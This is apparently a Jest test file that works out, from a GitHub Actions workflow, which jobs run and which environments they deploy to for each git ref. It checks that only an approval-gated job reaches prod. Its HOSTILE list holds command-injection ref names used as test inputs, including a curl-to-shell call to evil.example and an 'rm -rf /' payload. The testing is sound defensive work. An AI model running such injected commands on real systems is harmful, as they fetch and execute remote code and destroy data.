/**
 * Proof 3: for every row of the routing table (docs/design.md, environments.yml) and for hostile ref
 * names, the jobs that run and the environments they deploy to, computed from pipeline.yml itself:
 * its push filters, its job conditions (GitHub's expression engine), its needs, and resolve's
 * outputs from the real resolve logic over the real environments.yml.
 */
import { readFileSync } from 'node:fs';
import path from 'node:path';
import { resolveOutputsFor } from './resolveOutputs';
import { route, type Route } from './routing';
import { repoRoot } from './paths';
import { workflowFromText, type WorkflowModel } from './workflowModel';

const pipelineText = readFileSync(
  path.join(repoRoot, '.github', 'workflows', 'pipeline.yml'),
  'utf8',
);
const workflow = workflowFromText(pipelineText);

const CHECKS = [
  'resolve',
  'cache-dependencies',
  'test-jest',
  'test-mocha',
  'test-format',
  'test-secrets',
  'audit',
  'summary',
];
const BUILD = [...CHECKS, 'build', 'package'];
const DELIVER = [...BUILD, 'upload', 'images', 'release-candidate'];

let resolveOutputs: (ref: string) => Record<string, string>;
beforeAll(() => {
  resolveOutputs = resolveOutputsFor();
});

/** Routes a push; a ref the resolve logic refuses makes the resolve job fail, as the action would. */
function push(ref: string, wf: WorkflowModel = workflow): Route {
  let outputs: Record<string, string> | undefined;
  try {
    outputs = resolveOutputs(ref);
  } catch {
    outputs = undefined;
  }
  return route(wf, {
    ref,
    outputsOf: (job) => (job === 'resolve' ? (outputs ?? {}) : {}),
    failing: outputs ? [] : ['resolve'],
  });
}

const deployments = (r: Route) => r.environments.filter((e) => e.deployment);
const sorted = (jobs: string[]) => [...jobs].sort();

describe('pipeline routing: the rows of the table', () => {
  test.each([
    ['refs/heads/integration', 'mint'],
    ['refs/heads/staging', 'staging'],
    ['refs/tags/mint', 'mint'],
    ['refs/tags/amy', 'amy'],
    ['refs/tags/pat', 'pat'],
    ['refs/tags/qa', 'qa'],
    ['refs/tags/int-alice', 'int-alice'],
    ['refs/tags/int-team_2', 'int-team_2'],
    ['refs/tags/staging', 'staging'],
  ])('%s tests, builds, uploads and deploys to %s without a hold', (ref, environment) => {
    const r = push(ref);
    expect(sorted(r.ran)).toEqual(sorted([...DELIVER, 'deploy']));
    expect(deployments(r)).toEqual([{ job: 'deploy', environment, deployment: true }]);
    // The upload and the image push enter the same environment, without a deployment record.
    expect(
      r.environments.filter((e) => ['upload', 'images'].includes(e.job)).map((e) => e.environment),
    ).toEqual([environment, environment]);
  });

  test.each([
    'refs/heads/master',
    'refs/tags/production',
    'refs/tags/RELEASE-1',
    'refs/tags/RELEASE-2026',
  ])('%s uploads before the hold and deploys to prod only through deploy-with-approval', (ref) => {
    const r = push(ref);
    expect(sorted(r.ran)).toEqual(sorted([...DELIVER, 'deploy-with-approval']));
    expect(deployments(r)).toEqual([
      { job: 'deploy-with-approval', environment: 'prod', deployment: true },
    ]);
    // Before the hold nothing enters `prod` (entering it would start the hold before the upload).
    expect(
      r.environments.filter((e) => e.job !== 'deploy-with-approval').map((e) => e.environment),
    ).not.toContain('prod');
  });

  test.each([
    'refs/heads/Feature-login-12',
    'refs/heads/feature-login-12-retry',
    'refs/heads/snyk-fix-abc123',
  ])('%s builds and packages but deploys nothing', (ref) => {
    const r = push(ref);
    expect(sorted(r.ran)).toEqual(sorted(BUILD));
    expect(deployments(r)).toEqual([]);
  });

  test.each([
    'refs/heads/develop',
    'refs/heads/main',
    'refs/heads/docs/readme',
    'refs/heads/Feature-login',
  ])('%s runs the checks only', (ref) => {
    const r = push(ref);
    expect(sorted(r.ran)).toEqual(sorted(CHECKS));
    expect(deployments(r)).toEqual([]);
  });

  test.each(['refs/tags/v1.0.0', 'refs/tags/prod', 'refs/tags/int-a/b', 'refs/pull/7/merge'])(
    '%s does not start the pipeline at all',
    (ref) => {
      expect(push(ref)).toMatchObject({ triggered: false, ran: [] });
    },
  );
});

const HOSTILE = [
  'refs/heads/$(curl evil.example | sh)',
  'refs/heads/`id`',
  "refs/heads/master'; rm -rf /; '",
  'refs/heads/master"',
  'refs/heads/master ',
  'refs/heads/master\nrefs/heads/master',
  'refs/heads/master/evil',
  'refs/heads/Master',
  'refs/heads/MASTER',
  'refs/heads/xmaster',
  'refs/heads/production',
  'refs/heads/RELEASE-1',
  'refs/heads/prod',
  'refs/tags/master',
  'refs/tags/production2',
  'refs/tags/production/x',
  'refs/tags/RELEASE-',
  'refs/tags/RELEASE-1a',
  'refs/tags/RELEASE-1/../../x',
  'refs/tags/release-1',
  'refs/tags/RELEASE-１',
  'refs/tags/int-',
  'refs/tags/int-$(id)',
  'refs/tags/int-a..b',
  'refs/tags/stagingx',
  'refs/heads/staging/prod',
  'refs/heads/prød',
  `refs/heads/feature-${'a'.repeat(300)}`,
  'refs/heads/{{ needs.resolve.outputs.approval }}',
  "refs/heads/${{ 'prod' }}",
  'refs/heads/',
  '',
];

describe('pipeline routing: hostile and look-alike ref names', () => {
  test.each(HOSTILE.map((ref) => [JSON.stringify(ref), ref]))(
    '%s never deploys to prod or upper',
    (_name, ref) => {
      const r = push(ref);
      expect(r.ran).not.toContain('deploy-with-approval');
      expect(r.environments.map((e) => e.environment)).not.toContain('prod');
      // None of these is a row of the table: no deployment at all.
      expect(deployments(r)).toEqual([]);
    },
  );
});

describe('pipeline routing: prod', () => {
  test('exactly one job declares `environment: prod`, literally, and it is deploy-with-approval', () => {
    const declaring = workflow.jobs.filter((j) => j.environment?.name === 'prod').map((j) => j.id);
    expect(declaring).toEqual(['deploy-with-approval']);
  });

  test('across every ref tried, prod is entered only by deploy-with-approval, for master, production and RELEASE-<n>', () => {
    const refs = [
      ...HOSTILE,
      ...['integration', 'staging', 'master', 'develop', 'Feature-x-1', 'snyk-fix-1'].map(
        (b) => `refs/heads/${b}`,
      ),
      ...[
        'mint',
        'amy',
        'pat',
        'qa',
        'int-x',
        'staging',
        'production',
        'RELEASE-7',
        'RELEASE-x',
      ].map((t) => `refs/tags/${t}`),
    ];
    const toProd = refs.filter((ref) =>
      push(ref).environments.some((e) => e.environment === 'prod'),
    );
    expect(toProd.sort()).toEqual([
      'refs/heads/master',
      'refs/tags/RELEASE-7',
      'refs/tags/production',
    ]);
    for (const ref of toProd) {
      expect(
        push(ref)
          .environments.filter((e) => e.environment === 'prod')
          .map((e) => e.job),
      ).toEqual(['deploy-with-approval']);
    }
  });
});

describe('pipeline routing: the proof can fail', () => {
  test('a deploy job that forgot the approval condition would send master to prod without the hold', () => {
    const guard = " && needs.resolve.outputs.approval != 'true'";
    expect(pipelineText).toContain(guard);
    const broken = workflowFromText(pipelineText.replace(guard, ''));
    expect(deployments(push('refs/heads/master', broken)).map((d) => d.job)).toEqual([
      'deploy',
      'deploy-with-approval',
    ]);
  });
});
